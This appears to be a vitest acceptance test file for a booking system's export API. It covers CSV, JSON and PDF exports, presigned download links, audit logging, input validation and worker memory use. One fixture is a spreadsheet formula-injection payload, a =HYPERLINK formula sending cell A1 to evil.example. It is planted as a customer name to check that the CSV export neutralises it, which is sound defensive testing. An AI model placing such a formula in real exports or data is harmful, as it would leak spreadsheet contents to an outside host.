import { randomBytes } from "node:crypto";
import { DynamoDBClient } from "@aws-sdk/client-dynamodb";
import type { DynamoDBDocumentClient } from "@aws-sdk/lib-dynamodb";
import { beforeAll, describe, expect, inject, it } from "vitest";
import type { ExportView } from "../../shared/contracts/exports.ts";
import { addDays } from "../../shared/domain/booking/local-date.ts";
import { fullAcceptance } from "../support/acceptance.ts";
import {
  createBulkTable,
  generatedBooking,
  generatedBookings,
  writeBookings,
} from "../support/export-rows.ts";
import { demoAdmin, demoAgent, signedIn, type TestClient } from "../support/http.ts";
import { liveMemoryWhile } from "../support/live-heap.ts";

/** The stack's own table (local/stack.ts default); this process uses its own table for the 100k run. */
const stackTable = "slot-booking";
const memoryTable = `exports-memory-${randomBytes(4).toString("hex")}`;

let admin: TestClient;
let dynamo: DynamoDBDocumentClient;
let bucket: typeof import("../../shared/storage/exports-bucket.ts");
let repository: typeof import("../../shared/data/exports-repository.ts");
let runExport: typeof import("../../functions/exports/run-export.ts").runExport;

const from = "2031-03-03";
const to = "2031-03-04";
const perDay = 15;
const apiRows = 30;
const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';

beforeAll(async () => {
  process.env.DYNAMODB_ENDPOINT = inject("dynamoEndpoint");
  process.env.S3_ENDPOINT = inject("s3Endpoint");
  process.env.TABLE_NAME = memoryTable;
  const { resetConfig } = await import("../../shared/config.ts");
  const { resetClients, dynamoClient } = await import("../../shared/data/clients.ts");
  resetConfig();
  resetClients();
  dynamo = dynamoClient();
  await createBulkTable(
    new DynamoDBClient({
      endpoint: inject("dynamoEndpoint"),
      region: "eu-central-1",
      credentials: { accessKeyId: "local", secretAccessKey: "local" },
    }),
    memoryTable,
  );
  bucket = await import("../../shared/storage/exports-bucket.ts");
  repository = await import("../../shared/data/exports-repository.ts");
  ({ runExport } = await import("../../functions/exports/run-export.ts"));

  admin = await signedIn(demoAdmin);
  // 30 bookings over two days in the stack's table; the first customer's name is a formula.
  await writeBookings(
    dynamo,
    stackTable,
    Array.from({ length: apiRows }, (_, index) =>
      generatedBooking("e7a", from, perDay, index, index === 0 ? { lastName: evilName } : {}),
    ),
  );
});

async function waitDone(client: TestClient, id: string, seen: number[] = []): Promise<ExportView> {
  const deadline = Date.now() + 30_000;
  while (Date.now() < deadline) {
    const response = await client.request<{ export: ExportView }>("GET", `/api/exports/${id}`);
    expect(response.status).toBe(200);
    seen.push(response.body.export.progress);
    if (response.body.export.status === "done" || response.body.export.status === "failed")
      return response.body.export;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`export ${id} did not finish`);
}

async function download(url: string): Promise<{ status: number; bytes: Buffer; headers: Headers }> {
  const response = await fetch(url);
  return {
    status: response.status,
    bytes: Buffer.from(await response.arrayBuffer()),
    headers: response.headers,
  };
}

describe("exports through the API", () => {
  let csvExport: ExportView;

  it("starts a CSV export (202), runs it and hands out a presigned link that downloads the file from s3rver", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "csv", from, to, delimiter: ";" },
    });
    expect(started.status).toBe(202);
    expect(started.body.export).toMatchObject({ status: "queued", dataset: "bookings", createdBy: "admin" });
    expect(started.body.export.downloadUrl).toBeUndefined();

    csvExport = await waitDone(admin, started.body.export.id);
    expect(csvExport).toMatchObject({ status: "done", rows: apiRows, progress: 100 });
    expect(csvExport.downloadUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/slot-booking-exports\/exports\//);
    expect(csvExport.downloadUrl).toContain("X-Amz-Expires=900");
    const linkLife = Date.parse(csvExport.linkExpiresAt!) - Date.now();
    expect(linkLife).toBeGreaterThan(14 * 60_000);
    expect(linkLife).toBeLessThanOrEqual(15 * 60_000);

    const file = await download(csvExport.downloadUrl!);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-disposition")).toContain(`bookings_${from}_${to}.csv`);
    // UTF-8 BOM, `;` as asked, a header and one line per booking, CRLF.
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = file.bytes.toString("utf8").slice(1).trimEnd().split("\r\n");
    expect(lines[0]).toBe("date;time;customer;phone;agent;consultant;potential;outcome;points");
    expect(lines).toHaveLength(apiRows + 1);
    const second = generatedBooking("e7a", from, perDay, 1);
    expect(lines).toContain(
      `${second.date};${second.time};${second.lastName}, ${second.firstName};'${second.phone};anna;bench-consultant;standard;completed;3`,
    );
  });

  it("neutralises a formula in a cell: =HYPERLINK(...) comes out as text", async () => {
    const text = (await download(csvExport.downloadUrl!)).bytes.toString("utf8");
    const row = text.split("\r\n").find((line) => line.includes("HYPERLINK"));
    // The cell starts with ' (text to a spreadsheet); its quotes are doubled and it is quoted whole.
    expect(row).toContain(`;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klick""), Vorname0";`);
    expect(text).not.toMatch(/(^|;|\r\n)"?=/);
  });

  it("refuses the link after it expired (signed here with a 1-second life)", async () => {
    const key = bucket.exportObjectKey(csvExport.id, csvExport.fileName);
    const shortLived = await bucket.presignExport(key, csvExport.fileName, 1);
    expect((await download(shortLived)).status).toBe(200);
    await new Promise((resolve) => setTimeout(resolve, 2_200));
    const expired = await download(shortLived);
    expect(expired.status).toBe(403);
    expect(expired.bytes.toString("utf8")).toContain("Request has expired");
  });

  it("streams JSON as one array with every row", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "json", from, to, filters: { outcome: "no_show" } },
    });
    expect(started.status).toBe(202);
    const done = await waitDone(admin, started.body.export.id);
    const rows = JSON.parse((await download(done.downloadUrl!)).bytes.toString("utf8")) as Record<
      string,
      unknown
    >[];
    // Every fifth generated booking is a no-show.
    expect(rows).toHaveLength(apiRows / 5);
    expect(done.rows).toBe(apiRows / 5);
    expect(rows.every((row) => row.outcome === "no_show")).toBe(true);
    expect(rows[0]).toMatchObject({ date: from, time: "09:00", agent: "anna", points: 3 });
  });

  it("renders the bookings as a PDF", async () => {
    const started = await admin.request<{ export: ExportView }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "pdf", from, to },
    });
    const done = await waitDone(admin, started.body.export.id);
    expect(done).toMatchObject({ status: "done", rows: apiRows });
    const file = await download(done.downloadUrl!);
    expect(file.bytes.subarray(0, 5).toString("latin1")).toBe("%PDF-");
  });

  it("the old app's URL starts the same job and answers with it", async () => {
    const started = await admin.request<{ export: ExportView }>(
      "GET",
      `/api/export/bookings?format=csv&start_date=${from}&end_date=${to}`,
    );
    expect(started.status).toBe(202);
    expect(started.body.export).toMatchObject({
      dataset: "bookings",
      format: "csv",
      from,
      to,
      status: "queued",
    });
    const done = await waitDone(admin, started.body.export.id);
    expect(done.rows).toBe(apiRows);
    const lines = (await download(done.downloadUrl!)).bytes.toString("utf8").trimEnd().split("\r\n");
    expect(lines).toHaveLength(apiRows + 1);
    expect(lines[0]).toContain("date,time,customer");
    // …and it is listed with the others.
    const list = await admin.request<{ exports: ExportView[] }>("GET", "/api/exports");
    expect(list.body.exports.map((entry) => entry.id)).toContain(done.id);
    expect(list.body.exports.map((entry) => entry.id)).toContain(csvExport.id);
  });

  it("audits every export: who asked for what, and that it completed", async () => {
    const audit = await admin.request<{ entries: { action: string; target?: string; actor: string }[] }>(
      "GET",
      "/api/admin/audit?action=export",
    );
    expect(audit.status).toBe(200);
    const forCsv = audit.body.entries.filter((entry) => entry.target === csvExport.id);
    expect(forCsv.map((entry) => entry.action).sort()).toEqual(["export.completed", "export.requested"]);
    expect(forCsv.every((entry) => entry.actor === "admin")).toBe(true);
  });

  it("refuses bad input with 400 naming the field, and agents with 403", async () => {
    const bad = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "invoices", format: "csv", from, to },
    });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.error.fields)).toEqual(["body.dataset"]);
    const order = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "bookings", format: "csv", from: to, to: from },
      headers: { "accept-language": "en" },
    });
    expect(order.status).toBe(400);
    expect(order.body.error.fields).toEqual({ "body.to": "The end is before the start" });
    const pdf = await admin.request<{ error: { fields: Record<string, string> } }>("POST", "/api/exports", {
      body: { dataset: "customers", format: "pdf", from, to },
    });
    expect(Object.keys(pdf.body.error.fields)).toEqual(["body.format"]);
    const legacy = await admin.request<{ error: { fields: Record<string, string> } }>(
      "GET",
      "/api/export/bookings?format=xls&start_date=2031-03-03",
    );
    expect(legacy.status).toBe(400);
    expect(Object.keys(legacy.body.error.fields)).toEqual(["query.format"]);
    const agent = await signedIn(demoAgent);
    expect(
      (
        await agent.request("POST", "/api/exports", {
          body: { dataset: "bookings", format: "csv", from, to },
        })
      ).status,
    ).toBe(403);
    expect((await agent.request("GET", "/api/exports")).status).toBe(403);
  });
});

describe("the worker's memory", () => {
  const perDayMemory = 2_000;
  const mib = (bytes: number) => `${(bytes / 2 ** 20).toFixed(1)} MiB`;

  /** Queues a CSV export of from..to in this process's table and runs the worker on it here, measuring its memory. */
  async function measuredRun(rangeFrom: string, rangeTo: string) {
    const id = randomBytes(16).toString("hex");
    await repository.createExport({
      id,
      dataset: "bookings",
      format: "csv",
      from: rangeFrom,
      to: rangeTo,
      delimiter: ";",
      filters: {},
      createdBy: "memory-test",
      createdAt: new Date().toISOString(),
      key: bucket.exportObjectKey(id, "memory.csv"),
      fileName: "memory.csv",
    });
    const live = await liveMemoryWhile(async (sample) => {
      // A sample as each page of rows arrives, as well as every 500 ms.
      dynamo.middlewareStack.add(
        (next, context) => async (args) => {
          const output = await next(args);
          if (context.commandName === "QueryCommand") sample();
          return output;
        },
        { step: "initialize", name: "liveMemorySample" },
      );
      const rssBefore = process.memoryUsage().rss;
      const started = performance.now();
      const result = await runExport(id).finally(() => dynamo.middlewareStack.remove("liveMemorySample"));
      return {
        ...result,
        seconds: (performance.now() - started) / 1000,
        // The worker's own peak, for the log (what the samples' collections left standing).
        rssGrowth: result.peakRss - rssBefore,
      };
    });
    return { ...live.result, ...live };
  }

  /**
   * Writes `rows` bookings (2,000 a day from `start`), then exports a tenth of
   * them and all of them with the worker in this process. A one-day export runs
   * first, so that neither measured run counts loading the modules and
   * compiling the hot code.
   */
  async function tenfold(prefix: string, start: string, rows: number) {
    const t0 = performance.now();
    await writeBookings(dynamo, memoryTable, generatedBookings(prefix, start, perDayMemory, rows), {
      dayIndexOnly: true,
    });
    const writeSeconds = (performance.now() - t0) / 1000;
    await measuredRun(start, start);
    const small = await measuredRun(start, addDays(start, rows / 10 / perDayMemory - 1));
    const large = await measuredRun(start, addDays(start, rows / perDayMemory - 1));
    const line = (run: typeof small) =>
      `${run.rows / 1000}k rows ${run.seconds.toFixed(1)} s (${run.samples} collections ${(run.collectingMs / 1000).toFixed(1)} s), live heap +${mib(run.liveHeapGrowth)}, ` +
      `external +${mib(run.externalGrowth)}, rss +${mib(run.rssGrowth)}`;
    console.log(
      `export memory: wrote ${rows / 1000}k rows in ${writeSeconds.toFixed(1)} s ` +
        `(${Math.round(rows / writeSeconds)} rows/s); ${line(small)}; ${line(large)}; ${mib(large.bytes)} file`,
    );
    expect(small).toMatchObject({ status: "done", rows: rows / 10 });
    expect(large).toMatchObject({ status: "done", rows });
    return { small, large };
  }

  /**
   * Ten times the rows, the same memory held. What the worker still holds
   * after a full collection may differ by 0.75 MiB (a page of 500 rows more or
   * less in flight at a sample, ~0.3 MiB; code V8 compiles late in a run, a
   * few hundred KiB in a heap snapshot's diff) and 16 bytes a row. Whatever it
   * kept of a row costs far more: ~100 bytes of CSV text, ~170 for the row
   * object, ~280 for the item read. At 2k vs 20k rows that allows 1.0 MiB,
   * where keeping the CSV text would add 1.8, the row objects 2.9, the items
   * 4.8; at 10k vs 100k 2.1 MiB against 8.9, 14.6 and 24.
   */
  function expectHeldAlike(
    small: { rows: number; liveHeapGrowth: number; samples: number },
    large: typeof small,
  ) {
    expect(small.samples).toBeGreaterThan(2);
    expect(large.liveHeapGrowth).toBeLessThan(
      small.liveHeapGrowth + 0.75 * 2 ** 20 + 16 * (large.rows - small.rows),
    );
    // One page of rows, the encoder's and the streams' buffers: a few hundred KiB.
    expect(large.liveHeapGrowth).toBeLessThan(4 * 2 ** 20);
  }

  it("exports 20k rows holding no more than for 2k (live heap after a full collection)", {
    timeout: 240_000,
  }, async () => {
    const { small, large } = await tenfold("e7s", "2033-01-01", 20_000);
    expectHeldAlike(small, large);
  });

  it.skipIf(!fullAcceptance)(
    "exports 100k rows with the heap not growing with the row count (10k vs 100k)",
    { timeout: 1_500_000 },
    async () => {
      const { small, large } = await tenfold("e7m", "2032-01-01", 100_000);
      expectHeldAlike(small, large);
      // The multipart upload's Buffers: two 5 MiB parts in flight, the next one filling and the
      // block the last was cut from, whatever the file's size (here ~10 MiB, so this bounds the
      // upload's buffering, not proves it streams: the live heap above does that for the rows).
      expect(large.externalGrowth).toBeLessThan(24 * 2 ** 20);
      const stored = await repository.getExport(large.id);
      expect(stored).toMatchObject({ status: "done", rows: 100_000, progress: 100 });
    },
  );
});
